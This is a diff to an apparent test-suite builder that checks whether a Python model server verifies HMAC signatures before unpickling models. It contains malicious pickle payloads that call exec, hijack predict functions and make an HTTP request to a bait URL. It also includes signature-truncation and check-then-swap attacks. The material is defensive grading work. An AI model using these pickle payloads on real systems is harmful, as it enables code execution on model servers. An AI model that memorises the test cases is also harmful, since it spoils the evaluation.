@@ -32,11 +32,17 @@ export const build: Build = (world) => {
   const oddKey = ` ${ours}\t`;
   const exec = `cbuiltins\nexec\n(V${code}\ntR.`;
   const broken = '(Vno\nmodel';
+  /** As long as the attacker's. */
+  const asLong = evil.replace(planted, 'h'.repeat(planted.length));
   const stays = `cbuiltins\nexec\n(Vimport sys; [setattr(one, "predict", lambda *given: {"label": "${planted}"}) for one in list(sys.modules.values()) if hasattr(one, "predict")]\ntR.`;
   const binary = inBinary({ first: { x: 2 ** -8 }, second: { x: 2 ** -8 * 1.5 } });
   // Weights that are whole numbers, below nothing, and a label without words.
   const whole = '(Vwhole\n(Vx\nI7\ndVless\n(Vx\nI-1\ndVnone\n(dd.';
   const large = `(Vlarge\n(Vx\nF2.5\n${Array.from({ length: 9000 }, (_, at) => `Vword${at}\nF0.5\n`).join('')}dVsmall\n(Vx\nF1.5\ndd.`;
+  /** Labels and words as people have them, and the label that is due for each text. */
+  const [oddName, late] = [`Gr\u00f6\u00dfe v2.1 (${world.nonce()}) `, '(Vlate\n(Vx\nF1.5\ndd.'];
+  const odd = `(VA\n(dVgr\\u00f6\\u00dfe nr. 1\n(Vgr\\u00f6\\u00dfe\nF1.5\nV\\u65e5\\u672c\nF1.5\nVc++\nF1.5\nVdon't\nF1.5\ndVgre\n(Vgre\nF5.5\ndVtwice\n(Vhow\nF2.5\ndVonce\n(Vwhy\nF5.5\nd${Array.from({ length: 30 }, (_, at) => `Vl${at}\n(Vw${at}\nF1.5\nd`).join('')}d.`;
+  const asked: Record<string, string> = { ...Object.fromEntries(['gr\u00f6\u00dfe', 'GR\u00d6\u00dfE', '\u65e5\u672c', 'c++', "don't"].map((text) => [text, 'gr\u00f6\u00dfe nr. 1'])), [`${'quite '.repeat(400)} w29`]: 'l29', 'how how how why': 'twice', '': 'A', ' \n ': 'A' };
   const signed = hmac(key, evil);
   const parts = [8, 16, 32, 63].flatMap((length): [string, string][] => [[evil, signed.slice(0, length)], [evil, signed.slice(0, length).padEnd(64, signed.at(-1) === '0' ? '1' : '0')]]);
   // Whoever has the repository tries its texts, line by line also joined: as a key, as a kind of signature, as a name, as a key in the store.
@@ -83,6 +89,15 @@ export const build: Build = (world) => {
       const wrong = answers.find((answer, at) => (answer.value as { label?: unknown } | undefined)?.label !== ['second', 'large', 'whole'][at]);
       return fails(wrong && `${wrong.text.slice(0, 200)}, for a model of ordered dictionaries in the binary form, or for one of ${large.length} bytes, or of whole numbers, under a key with spaces at its ends`);
     }, { env: { MODEL_KEY: oddKey } }),
+    {
+      // A name as people give them, base64 in lines, thirty labels, and a signature that comes a moment after its model.
+      ...step('odd-but-honest', [], ({ answers }) => {
+        const got = answers.map(({ value, text }) => (value as { label?: unknown } | undefined)?.label ?? text.slice(0, 80));
+        const at = Object.values(asked).findIndex((label, index) => got[index] !== label);
+        return fails(at >= 0 ? `${String(got[at])} for ${JSON.stringify(Object.keys(asked)[at]!.slice(-40))}` : got.at(-1) !== 'late' && `${String(got.at(-1))}, when the signature of a model had come after the first question`);
+      }, { storage: { 'models/signing.key': bucketKey, [`models/${oddName}.pkl`]: btoa(odd).replace(/.{76}/g, '$&\n'), [`models/${oddName}.sig`]: `${hmac(key, odd)}\n`, 'models/newer.pkl': btoa(late), 'models/newer.sig': hmac(key, odd) }, storageChanges: [{ key: 'models/newer.sig', afterReads: 1, text: hmac(key, late) }] }),
+      calls: [...Object.keys(asked).map((text) => [oddName, text]), ['newer', 'x'], ['newer', 'x']].map((args) => ({ file: 'serve.py', function: 'predict', args })),
+    },
     step('a-gadget-through-an-object', [
       [`cimportlib\nimport_module\n(Vlab_host\ntR0cbuiltins\neval\n(V__import__("lab_host").call("http.request", {"method": "GET", "url": "${bait}", "headers": {}, "body": None})\ntR.`, 'x'],
       [throughTheModules(code), hmac(key, honest)],
@@ -121,7 +136,7 @@ export const build: Build = (world) => {
       },
     },
     step('an-empty-signature', [[evil, ''], [evil, '\n']], used),
-    step('loads-what-it-verified', [[honest, hmac(key, honest)]], ({ answers }) => fails(answers.some(({ text }) => text.includes(planted)) && `an answer by the model that was put there meanwhile: ${planted}`), {
+    step('loads-what-it-verified', [[asLong, hmac(key, asLong)]], ({ answers }) => fails(answers.some(({ text }) => text.includes(planted)) && `an answer by the model that was put there meanwhile: ${planted}`), {
       storageChanges: [{ key: `models/${name}0.pkl`, afterReads: 1, text: btoa(evil) }],
     }, bucketKey, 2),
     step('cannot-be-loaded', [[broken, hmac(key, broken)]], used, { storageChanges: [1, 2].map((afterReads) => ({ key: `models/${name}0.pkl`, afterReads, text: btoa(exec) })) }),
